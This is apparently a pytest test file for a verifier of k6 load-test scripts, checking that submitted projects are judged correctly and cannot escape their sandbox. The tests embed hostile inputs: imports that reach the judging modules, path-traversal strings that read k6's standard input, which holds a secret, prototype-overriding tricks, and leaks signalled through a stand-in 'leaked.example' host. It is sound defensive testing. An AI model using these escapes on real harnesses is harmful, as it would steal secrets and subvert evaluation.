"""Scripts of several files, as k6 itself runs them."""

import pytest

from shared.domain.project import Project
from shared.domain.verification import NeedKind, Verdict
from tests.corpus.projects import PROJECTS, ProjectCase
from tests.support.verifying import ample
from worker.verify.verifier import ScriptVerifier


@pytest.mark.parametrize("case", [pytest.param(case, id=case.name) for case in PROJECTS])
def test_a_project_gets_the_verdict_that_is_right(
    verifier: ScriptVerifier, case: ProjectCase
) -> None:
    report = verifier.verify(case.project, None, ample())

    found = {each.code: each.file for each in report.findings}
    assert report.status is case.verdict, report.findings
    assert {code: found.get(code, "missing") for code in case.expected} == {
        code: file or found.get(code) for code, file in case.expected.items()
    }
    assert report.entry == case.entry
    assert [file.path for file in report.files] == sorted(case.files)


def test_what_another_module_needs_is_listed_with_its_file(verifier: ScriptVerifier) -> None:
    case = next(case for case in PROJECTS if case.name == "a variable that another module needs")

    report = verifier.verify(case.project, None, ample())

    (need,) = report.needs
    assert (need.name, need.used_for, need.file, need.line) == (
        "BASE_URL",
        NeedKind.URL,
        "config.js",
        1,
    )
    assert report.command == "k6 run -e BASE_URL=... main.js"


RUN = "import http from 'k6/http';\nexport default () => { http.get('https://a.example/'); };\n"


@pytest.mark.parametrize(
    "reach",
    [
        "import '../run.js';",
        "import { report } from '../report.js';",
        "import { report } from './../report.js';",
        "import { report } from '../guard.js';",
        "require('../report.js');",
        "const name = '../report.js'; require(name);",
        "export * from '../report.js';",
    ],
)
def test_a_project_cannot_import_what_judges_it(verifier: ScriptVerifier, reach: str) -> None:
    project = Project.of_files("main.js", {"main.js": f"{reach}\n{RUN}".encode(), "a.json": b"1"})

    report = verifier.verify(project, None, ample())

    assert report.status is not Verdict.VERIFIED


# k6 keeps what it reads from its standard input under this name: the module with the secret.
STDIN = (
    "/-",
    "file:///-",
    "/under-test/../-",
    "/a.json/../-",
    "file:///-?/a.json",
    "file:///-#/a.json",
    "/a.json%2f..%2f-",
    "/-/./a.json/..",
)


@pytest.mark.parametrize("path", STDIN)
@pytest.mark.parametrize(
    "read",
    [
        "const text = open('{}');",
        "const path = {{ toString() {{ return '{}'; }} }}; const text = open(path);",
        """import {{ open as read }} from 'k6/experimental/fs';
let text = '';
try {{
  const file = await read('{}');
  const bytes = new Uint8Array(4000);
  await file.read(bytes);
  text = String.fromCharCode(...bytes);
}} catch {{}}""",
    ],
)
def test_a_project_cannot_read_what_k6_was_given_on_standard_input(
    verifier: ScriptVerifier, read: str, path: str
) -> None:
    head = read.format(path)
    # A script that got hold of it says so by an address.
    script = (
        f"import http from 'k6/http';\n{head}\n"
        "export default () => {\n"
        "  http.get(`https://${text.includes('begin(') ? 'leaked' : 'kept'}.example/`);\n};\n"
    )
    project = Project.of_files("main.js", {"main.js": script.encode(), "a.json": b"1"})

    report = verifier.verify(project, None, ample())

    assert report.dry_run is None or "leaked.example" not in report.dry_run.hosts
    assert not [found for found in report.findings if "begin(" in found.message]


def test_a_script_that_bends_built_ins_opens_no_more(verifier: ScriptVerifier) -> None:
    bent = (
        "String.prototype.endsWith = () => true;\nString.prototype.includes = () => true;\n"
        "Array.prototype.includes = () => true;\nString.prototype.slice = () => 'a.json';\n"
        "Array.prototype[Symbol.iterator] = function* () { yield 'a.json'; };\n"
        "const text = open('/-');\nconst leaked = text.indexOf('begin(') >= 0;\n"
        "import http from 'k6/http';\n"
        "export default () => { http.get(`https://${leaked ? 'leaked' : 'kept'}.example/`); };\n"
    )
    project = Project.of_files("main.js", {"main.js": bent.encode(), "a.json": b"1"})

    report = verifier.verify(project, None, ample())

    assert report.dry_run is None or "leaked.example" not in report.dry_run.hosts
